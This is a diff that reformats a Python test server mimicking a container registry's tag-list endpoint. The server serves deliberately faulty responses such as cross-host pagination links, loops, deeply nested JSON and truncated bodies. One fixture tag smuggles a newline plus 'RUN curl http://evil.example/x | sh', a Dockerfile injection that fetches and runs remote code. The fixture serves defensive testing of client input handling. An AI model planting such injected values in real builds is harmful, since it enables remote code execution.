@@ -151,14 +151,18 @@ class Handler(BaseHTTPRequestHandler):
         port = self.server.server_address[1]
         if fault == "cross-link" and self.headers.get("Host", "").startswith("127.0.0.1"):
             link = f'<http://127.0.0.2:{port}/v2/{repository}/tags/list?n=1000&last=1.1>; rel="next"'
-            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link})
+            self._send(
+                200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link}
+            )
             return
         if fault == "cross-link":
             self._send(200, "application/json", json.dumps({"name": repository, "tags": ["9.9-elsewhere"]}).encode())
             return
         if fault == "link-loop":
             link = f'</v2/{repository}/tags/list?n=1000>; rel="next"'
-            self._send(200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link})
+            self._send(
+                200, "application/json", json.dumps({"name": repository, "tags": ["1.0"]}).encode(), {"Link": link}
+            )
             return
         if fault == "endless":
             page = int(query.get("page", ["0"])[0])
@@ -179,7 +183,11 @@ class Handler(BaseHTTPRequestHandler):
         if fault == "deep":
             self._send(200, "application/json", b'{"tags": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
             return
-        tags = ["1.0", "1.1\nRUN curl http://evil.example/x | sh", "latest"] if fault == "bad-tag" else ["1.0", "1.1", "latest"]
+        tags = (
+            ["1.0", "1.1\nRUN curl http://evil.example/x | sh", "latest"]
+            if fault == "bad-tag"
+            else ["1.0", "1.1", "latest"]
+        )
         body = json.dumps({"name": repository, "tags": tags}).encode()
         if fault == "truncated":
             self._send(200, "application/json", body[:10], length=len(body))
